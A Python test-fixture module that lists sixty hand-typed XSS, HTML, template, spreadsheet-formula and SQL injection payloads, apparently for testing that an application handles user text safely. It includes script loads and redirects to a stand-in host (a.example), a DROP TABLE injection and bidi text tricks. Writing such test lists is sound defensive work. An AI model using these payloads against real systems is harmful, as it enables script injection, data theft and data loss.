"""Sixty texts that would do something if a page took them for more than text. Each is shown as it was typed.

Typed by hand for this application: HTML, SVG, attributes, scripts' addresses, template languages, htmx, style
sheets, spreadsheets' formulas, SQL, signs that turn or hide text, and broken encodings.
"""

PAYLOADS = (
    # Elements that run something
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//a.example/x.js></script>",
    "<script type=module>alert(3)</script>",
    "</script><script>alert(4)</script>",
    "<scr<script>ipt>alert(5)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(6)>'>",
    "<template><script>alert(7)</script></template>",
    # Attributes that run something
    "<img src=x onerror=alert(8)>",
    "<img src=x onerror=alert`9`>",
    "<body onload=alert(10)>",
    "<input autofocus onfocus=alert(11)>",
    "<details open ontoggle=alert(12)>",
    "<video><source onerror=alert(13)>",
    "<marquee onstart=alert(14)>",
    "<p onclick=alert(15)>klik</p>",
    # Out of an attribute or an element
    '"><script>alert(16)</script>',
    "'><img src=x onerror=alert(17)>",
    '" onmouseover="alert(18)',
    "' autofocus onfocus='alert(19)",
    "</textarea><script>alert(20)</script>",
    "</title><script>alert(21)</script>",
    "</pre><img src=x onerror=alert(22)>",
    "</option></select><img src=x onerror=alert(23)>",
    # SVG, MathML, frames, addresses
    "<svg onload=alert(24)>",
    "<svg><script>alert(25)</script></svg>",
    "<svg><animate onbegin=alert(26) attributeName=x>",
    '<svg><a xlink:href="javascript:alert(27)"><text>x</text></a>',
    "<math href=javascript:alert(28)>x</math>",
    "<iframe src=javascript:alert(29)>",
    "<iframe srcdoc='<script>alert(30)</script>'>",
    "<object data=javascript:alert(31)>",
    "<embed src=data:text/html,<script>alert(32)</script>>",
    "<a href=javascript:alert(33)>klik</a>",
    "javascript:alert(34)",
    "data:text/html,<script>alert(35)</script>",
    "<form action=//a.example><button>Lanjut",
    "<base href=//a.example/>",
    "<meta http-equiv=refresh content=0;url=//a.example>",
    "<link rel=stylesheet href=//a.example/x.css>",
    # Styles
    "<style>body{display:none}</style>",
    "<p style=background:url(//a.example/x)>",
    "<p style=position:fixed;inset:0>",
    # Template languages and htmx
    "{{ 7*7 }}",
    "{% load static %}",
    "${alert(36)}",
    "<%= 7*7 %>",
    "{Nama Pemohon}",
    "<div hx-get=/keluar/ hx-trigger=load>",
    "<div hx-on:click=alert(37) data-hx-post=/keluar/>",
    # Entities, comments, encodings
    "&lt;script&gt;alert(38)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(39)&#62;",
    "<!--><img src=x onerror=alert(40)>-->",
    "<![CDATA[<script>alert(41)</script>]]>",
    "%3Cscript%3Ealert(42)%3C/script%3E",
    "\\u003cscript\\u003ealert(43)",
    # Formulas, SQL, and signs that turn, hide or break text
    '=HYPERLINK("//a.example","klik")',
    "'; DROP TABLE scripts_agent_call; --",
    "‮)44(trela<tpircs>‬",
    "Sa\u200bri \u202dsihtak\u202c \ufffd <b>",
)
assert len(set(PAYLOADS)) == 60


def packed(length: int) -> list[str]:
    """All of them in as few texts as fit into `length` characters; one that does not fit alone is cut."""
    texts: list[str] = []
    for payload in PAYLOADS:
        payload = payload[:length].strip()
        if texts and len(texts[-1]) + len(payload) < length:
            texts[-1] += f" {payload}"
        else:
            texts.append(payload)
    return texts
